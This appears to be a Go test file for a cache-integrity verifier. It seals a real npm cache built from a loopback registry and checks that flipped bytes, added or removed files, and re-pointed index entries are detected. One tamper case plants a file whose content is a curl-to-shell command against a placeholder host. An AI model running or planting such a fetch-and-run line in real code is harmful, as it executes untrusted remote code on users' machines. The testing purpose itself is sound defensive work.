package cache

import (
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandprobe/sandprobe/internal/testenv"
	"github.com/sandprobe/sandprobe/result"
)

// npmPackage packs a package directory with `npm pack` (offline) and
// returns the tarball.
func npmPackage(t *testing.T, name, version string, deps map[string]string) []byte {
	t.Helper()
	dir := t.TempDir()
	pkg := map[string]any{"name": name, "version": version, "main": "index.js", "license": "MIT"}
	if deps != nil {
		pkg["dependencies"] = deps
	}
	raw, _ := json.Marshal(pkg)
	os.WriteFile(filepath.Join(dir, "package.json"), raw, 0o644)
	os.WriteFile(filepath.Join(dir, "index.js"), []byte("module.exports = "+fmt.Sprintf("%q", name)+";\n"), 0o644)
	cmd := exec.Command("npm", "pack", "--silent", "--pack-destination", dir)
	cmd.Dir = dir
	cmd.Env = npmEnv(t)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("npm pack: %v\n%s", err, out)
	}
	tgz, err := os.ReadFile(filepath.Join(dir, strings.TrimSpace(lastLine(string(out)))))
	if err != nil {
		t.Fatal(err)
	}
	return tgz
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// npmEnv keeps npm away from the user's config and from any network but
// the test's loopback registry.
func npmEnv(t *testing.T) []string {
	home := t.TempDir()
	return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "npm_config_userconfig=" + filepath.Join(home, ".npmrc"),
		"npm_config_update_notifier=false", "npm_config_fund=false", "npm_config_audit=false",
		"npm_config_cache=" + filepath.Join(home, ".npm"), "NO_PROXY=*", "no_proxy=*",
		// Whatever npm would fetch without being told where goes nowhere:
		// a closed port on loopback (the install names the test's registry).
		"npm_config_registry=http://127.0.0.1:9/"}
}

// loopbackRegistry serves the packuments and tarballs of the given
// packages on 127.0.0.1, and 404 for anything else.
func loopbackRegistry(t *testing.T, pkgs map[string][]byte) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	base := "http://" + l.Addr().String() + "/"
	mux := http.NewServeMux()
	for name, tgz := range pkgs {
		sum := sha512.Sum512(tgz)
		sha := sha1.Sum(tgz)
		tarball := fmt.Sprintf("%s%s/-/%s-1.0.0.tgz", base, name, name)
		doc, _ := json.Marshal(map[string]any{
			"name": name, "dist-tags": map[string]string{"latest": "1.0.0"},
			"versions": map[string]any{"1.0.0": map[string]any{
				"name": name, "version": "1.0.0", "main": "index.js",
				"dependencies": depsOf(tgzDeps, name),
				"dist":         map[string]string{"tarball": tarball, "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]), "shasum": hex.EncodeToString(sha[:])},
			}},
		})
		mux.HandleFunc("/"+name, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.Write(doc)
		})
		mux.HandleFunc(fmt.Sprintf("/%s/-/%s-1.0.0.tgz", name, name), func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Write(tgz)
		})
	}
	srv := &http.Server{Handler: mux}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return base
}

var tgzDeps = map[string]map[string]string{"sp-app-dep": {"sp-leaf": "^1.0.0"}}

func depsOf(m map[string]map[string]string, name string) map[string]string {
	if d := m[name]; d != nil {
		return d
	}
	return map[string]string{}
}

// realNpmCache installs two packages (one depending on the other) with
// npm from a registry the test serves on loopback, into a fresh cache,
// and returns the cache directory (holding _cacache).
func realNpmCache(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("npm"); err != nil {
		testenv.Missing(t, "npm is not installed (hack/install-deps.sh installs it)")
	}
	pkgs := map[string][]byte{
		"sp-leaf":    npmPackage(t, "sp-leaf", "1.0.0", nil),
		"sp-app-dep": npmPackage(t, "sp-app-dep", "1.0.0", map[string]string{"sp-leaf": "^1.0.0"}),
	}
	registry := loopbackRegistry(t, pkgs)
	cache := filepath.Join(t.TempDir(), "npm-cache")
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, "package.json"), []byte(`{"name":"consumer","version":"1.0.0","private":true}`), 0o644)
	cmd := exec.Command("npm", "install", "sp-app-dep", "--registry", registry, "--cache", cache, "--no-audit", "--no-fund", "--ignore-scripts")
	cmd.Dir = project
	cmd.Env = npmEnv(t)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("npm install from %s: %v\n%s", registry, err, out)
	}
	if _, err := os.Stat(filepath.Join(project, "node_modules/sp-leaf/index.js")); err != nil {
		t.Fatalf("npm did not install: %v", err)
	}
	return cache
}

func collect(t *testing.T, dir string, manifest []byte) ([]result.Finding, Summary) {
	t.Helper()
	var fs []result.Finding
	var r *bytes.Reader
	if manifest != nil {
		r = bytes.NewReader(manifest)
	}
	var sum Summary
	var err error
	if r != nil {
		sum, err = Verify(context.Background(), dir, r, func(f result.Finding) { fs = append(fs, f) }, Options{})
	} else {
		sum, err = Verify(context.Background(), dir, nil, func(f result.Finding) { fs = append(fs, f) }, Options{})
	}
	if err != nil {
		t.Fatal(err)
	}
	return fs, sum
}

func failing(fs []result.Finding) []result.Finding {
	var out []result.Finding
	for _, f := range fs {
		if f.Status != result.Pass {
			out = append(out, f)
		}
	}
	return out
}

func seal(t *testing.T, dir string) []byte {
	t.Helper()
	var b bytes.Buffer
	if _, err := Seal(context.Background(), dir, &b, Options{}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func copyTree(t *testing.T, src string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), filepath.Base(src))
	if out, err := exec.Command("cp", "-a", src, dst).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v\n%s", err, out)
	}
	return dst
}

// contentFiles lists the cache's content files, and its index buckets.
func npmFiles(t *testing.T, cache, part string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(filepath.Join(cache, "_cacache", part), func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			out = append(out, p)
		}
		return nil
	})
	if len(out) == 0 {
		t.Fatalf("no %s files in %s", part, cache)
	}
	return out
}

func flipByte(t *testing.T, p string) {
	t.Helper()
	os.Chmod(p, 0o644) // cacache makes content read-only; the attacker owns it
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 0x01
	if err := os.WriteFile(p, b, 0o444); err != nil {
		t.Fatal(err)
	}
}

// TestNpmCache: a real npm cache, made by npm install from a loopback
// registry. Untouched, it verifies clean (content-addressed and against its
// seal); a flipped byte, an added file, a removed file and an edited index
// entry are each named, by both.
func TestNpmCache(t *testing.T) {
	cache := realNpmCache(t)
	manifest := seal(t, cache)
	fs, sum := collect(t, cache, manifest)
	if len(failing(fs)) > 0 || len(sum.Stores) != 1 || sum.Stores[0].Kind != "npm" || sum.Stores[0].Entries < 4 {
		t.Fatalf("the untouched cache: %+v %+v", failing(fs), sum)
	}
	for _, f := range fs {
		t.Logf("%s %s: %s (%s)", f.Status, f.Name(), f.Actual, f.Evidence)
	}
	cases := []struct {
		name   string
		break_ func(t *testing.T, cache string) string // returns the path that must be named
		sealed string                                  // what the seal check says
		ca     string                                  // what the content-addressed check says ("" : cannot see it)
	}{
		{"flipped byte in a tarball", func(t *testing.T, c string) string {
			p := biggest(npmFiles(t, c, "content-v2"))
			flipByte(t, p)
			return p
		}, "content changed since the seal", "content does not match its address (sha512)"},
		{"added content file", func(t *testing.T, c string) string {
			p := filepath.Join(c, "_cacache/content-v2/sha512/ab/cd", strings.Repeat("ef", 62))
			os.MkdirAll(filepath.Dir(p), 0o755)
			os.WriteFile(p, []byte("module.exports = require('child_process').exec('curl x.invalid|sh')\n"), 0o444)
			return p
		}, "added since the seal (file", "content does not match its address"},
		{"removed tarball", func(t *testing.T, c string) string {
			p := biggest(npmFiles(t, c, "content-v2"))
			os.Remove(p)
			return p
		}, "removed since the seal (file)", ""},
		{"index entry re-pointed", func(t *testing.T, c string) string {
			p := npmFiles(t, c, "index-v5")[0]
			b, _ := os.ReadFile(p)
			os.WriteFile(p, bytes.Replace(b, []byte(`"integrity":"sha512-`), []byte(`"integrity":"sha512-A`), 1), 0o644)
			return p
		}, "content changed since the seal", "does not match its own SHA-1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			broken := copyTree(t, cache)
			path := c.break_(t, broken)
			fs, _ := collect(t, broken, manifest)
			var sealedHit, caHit bool
			for _, f := range failing(fs) {
				if f.Expected == "" || f.Actual == "" || f.Fix == "" {
					t.Errorf("a failure without expected, actual and fix: %+v", f)
				}
				t.Logf("%s %s: %s", f.Check, f.Subject, f.Actual)
				if f.Check == CheckSealed && f.Subject == path && strings.Contains(f.Actual, c.sealed) {
					sealedHit = true
				}
				if f.Check == CheckIntegrity && c.ca != "" && strings.Contains(f.Actual, c.ca) {
					caHit = true
				}
			}
			if !sealedHit {
				t.Errorf("the seal does not name %s (%q)", path, c.sealed)
			}
			if c.ca != "" && !caHit {
				t.Errorf("the content-addressed check does not say %q", c.ca)
			}
			if c.name == "removed tarball" {
				// Without a seal: the index names content that is gone.
				caFs, _ := collect(t, broken, nil)
				if bad := failing(caFs); len(bad) == 0 || !strings.Contains(bad[0].Actual, "not in the cache") {
					t.Errorf("without a seal the removal is not named: %+v", bad)
				}
			}
		})
	}
}

func biggest(paths []string) string {
	var best string
	var size int64 = -1
	for _, p := range paths {
		if fi, err := os.Stat(p); err == nil && fi.Size() > size {
			best, size = p, fi.Size()
		}
	}
	return best
}
